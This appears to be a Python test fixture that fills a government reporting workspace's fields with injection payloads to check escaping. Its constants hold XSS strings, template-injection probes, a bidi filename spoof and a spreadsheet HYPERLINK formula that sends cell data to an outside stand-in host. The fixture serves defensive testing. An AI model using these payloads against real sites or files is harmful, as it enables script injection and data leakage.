"""A workspace in which every text that people may type or send is an attack, each with the name of its field before it.

The names (`mark`) are what the tests look for on pages and in files: the attack must be there, as text.
"""

from dataclasses import fields, replace
from datetime import date, datetime
from pathlib import Path

from danvan import periods, units, workspace
from danvan.briefing import office, store
from danvan.briefing.compose import compose
from danvan.briefing.model import Briefing, Slide
from danvan.cases.item import DIALOGUE, Case
from danvan.cases.store import withdraw, write
from danvan.database import Database
from danvan.ingest import one, run, undo
from danvan.ingest.choices import Choices, Paper
from danvan.lists.change import Change
from danvan.people import accounts, journal, lockout, moments
from danvan.people.book import Book
from danvan.plans import norms, targets, themes
from danvan.plans import store as plans
from danvan.plans.documents import PlanDocument
from danvan.reporting import due
from danvan.rights import ADMINISTRATOR, UPLOADER, VIEWER, Actor

IMAGE = "<img src=x onerror=window.__owned=1>"
MARKUP = (
    "</script><script>window.__owned=2</script>\"'><svg onload=window.__owned=3>"
    "<a href=\"javascript:window.__owned=4\">a</a><iframe src='http://ngoai.invalid/'></iframe>{{7*7}}${7*7}"
)
MARKDOWN = (
    "[bấm](javascript:window.__owned=5) ![ảnh](http://ngoai.invalid/a.png) **đậm** `mã` $x^2$ :red[đỏ] :material/home: "
    ":streamlit: # đầu\n\n- mục\n<http://ngoai.invalid> www.ngoai.invalid"
)
FORMULA = '=HYPERLINK("http://ngoai.invalid/?"&A1,"xem")'
BIDI = "\u202egpj.exe\u2066"
CONTROL = "\x00\x07\x0b\x1b\ufffe"
ALL = f"{IMAGE}{MARKUP}{MARKDOWN}{BIDI}{CONTROL}"
WORD = "ba-con-meo-den"
HA_TINH, HA_NOI = "42-2008", "01-2008"
INDICATOR = f"Chỉ tiêu {IMAGE}"
WHO = f"[ng](javascript:alert) {IMAGE}"


def mark(field: str, payload: str = ALL, longest: int = 2000) -> str:
    """An attack in a field: 'x-title <img …'."""
    return f"x-{field} {payload}"[:longest]


def paper(field: str) -> Paper:
    """A document whose every text is an attack."""
    return Paper(mark(f"{field}-title"), "official_report", mark("number", IMAGE), mark("issuer"), "2025-01-10")


def build(directory: Path) -> dict[str, str]:
    """Fill the data folder; ids of what a test wants to open: batch, undo, indicator, case …"""
    database = workspace.open_workspace(workspace.OFFICIAL, directory)
    try:
        made = _imported(database) | {"case": _cases(database)}
        _typed(database)
        _planned(database)
        made |= _presented(database)
    finally:
        database.close()
    return made


def _imported(database: Database) -> dict[str, str]:
    """A file with an indicator of its own, whose name, unit of measure, header and file name are attacks."""
    name = f"{IMAGE}{BIDI}.csv"
    for at, value in enumerate((57, 58)):
        head = f"Tỉnh;{INDICATOR};Số cuộc đối thoại năm 2024;{FORMULA}"
        data = f"{head}\nHà Tĩnh;12;{value};=1+1\nHà Nội;8;41;{IMAGE}\n".encode()
        answers = Choices(period="2024", all_new=True, accept_good_rows=True, paper=paper(f"import{at}"))
        intake = run.prepare(database, name, data, answers)
        batch = run.commit(database, intake, data, WHO, reason=mark("reason"))
        assert batch, [item.message for item in intake.findings]
        if at == 0:
            undone = batch
    back = undo.undo(database, undone, WHO, mark("undo"))
    indicator = next(iter(intake.new), "") or next(
        code for sheet in intake.sheets for code in sheet.shaped.rows["indicator"].unique() if not code.startswith("DT")
    )
    return {"batch": batch, "indicator": indicator, "undo": back}


def _typed(database: Database) -> None:
    """Figures entered by hand, and one of them corrected, from documents whose places are attacks."""
    for value, reason in (("12", ""), ("13", mark("correction"))):
        entry = one.Entry(
            "DT02",
            HA_TINH,
            periods.parse("2024"),
            value=value,
            paper=replace(paper("typed"), day="10/1/2025"),
            place=mark("place"),
            reason=reason,
        )
        draft = one.prepare(database, entry)
        assert draft.ready, [item.message for item in draft.findings]
        assert one.commit(database, draft, WHO)


def _cases(database: Database) -> str:
    case = Case(
        "", HA_TINH, DIALOGUE, date(2025, 3, 3), "", mark("content", longest=500), mark("owner", longest=200),
        date(2025, 4, 1), None, "", mark("note", longest=300), mark("paper", longest=300),
    )  # fmt: skip
    settled = replace(
        case, content=mark("settled", longest=500), settled=date(2025, 3, 9), outcome=mark("outcome", longest=500)
    )
    first, *others = write(database, [case, settled, replace(case, content=mark("gone"))], Change(WHO, mark("why")))
    withdraw(database, others[-1:], Change(WHO, mark("withdrawn")))
    return first


def _planned(database: Database) -> None:
    cited = PlanDocument(mark("plan"), mark("plan-number", IMAGE), mark("plan-issuer"), date(2024, 1, 5))
    aim = targets.Target(
        "", "DT02", HA_TINH, "", date(2026, 12, 31), 90, targets.AT_LEAST, date(2024, 1, 1), 0, cited, mark("aim-note")
    )
    norm = norms.Norm(
        "", "DT02", HA_TINH, "province", date(2024, 1, 1), None, "year", 24, cited, note=mark("norm-note")
    )
    made = plans.enter(database, [aim, replace(aim, value=95), norm], Change(WHO, mark("plan-reason")))
    plans.withdraw(database, plans.TARGET, made[1:2], Change(WHO, mark("plan-withdrawn")))
    at = datetime(2026, 11, 21, 9)
    for unit in (units.NATION, HA_TINH):
        for year in (2024, 2025, 2026):
            themes.put(database, themes.Theme(unit, year, mark("theme", longest=200), mark("basis"), WHO, at))
    due.put(database, due.DueRule("year", 1, 10, date(2025, 1, 1), mark("due-basis"), None, WHO), at)


def _presented(database: Database) -> dict[str, str]:
    # What the office's papers bear has a line each; a margin is a number.
    office.keep(database, office.Office(**{one.name: mark(f"office-{one.name}") for one in fields(office.Office)[:-1]}))
    unit, at = HA_TINH, datetime(2026, 11, 21, 9)
    slides = (
        Slide("title"),
        *(
            Slide(kind, mark(f"slide-{kind}"), ("DT02",), words=(mark("words"),), notes=mark("notes"))
            for kind in ("figures", "bars", "trend", "table", "ranking", "map", "levels", "text", "lacking")
        ),
    )
    briefing = Briefing(
        "doc", mark("briefing"), unit, "2024", slides,
        subtitle=mark("subtitle"), number=mark("symbol", IMAGE),
    )  # fmt: skip
    kept = store.save(database, briefing, who=WHO, at=at)
    deck = compose(database, briefing, office.office(database), made=at.date(), illustrative=False)
    frozen = store.freeze(database, briefing, deck, who=WHO, at=at)
    return {"briefing": kept.name, "frozen": frozen.name}


def people(directory: Path) -> Book:
    """Accounts whose full names are attacks, one of the office's own sign-in, and a journal full of attacks."""
    book = Book(directory)
    accounts.add(book, "lan", f"Lan {IMAGE}", ADMINISTRATOR, WORD)
    accounts.add(book, "hoa", f"[Hoa](javascript:alert) {IMAGE}", UPLOADER, WORD, unit_ids=(HA_TINH,))
    accounts.add(book, "hai", f"Hải :red[x] $y$ {IMAGE}", VIEWER, WORD)
    accounts.of_provider(book, mark("sub", IMAGE), mark("claim", IMAGE, 80), VIEWER, (), "10.0.0.9")
    for act in journal.ACTS:
        journal.note(book, Actor(IMAGE, mark("actor"), address=mark("agent", longest=300)), act, mark("subject"), ALL)
    with book.writing() as connection:
        lockout.remember(connection, ALL, ALL, moments.now())
    return book
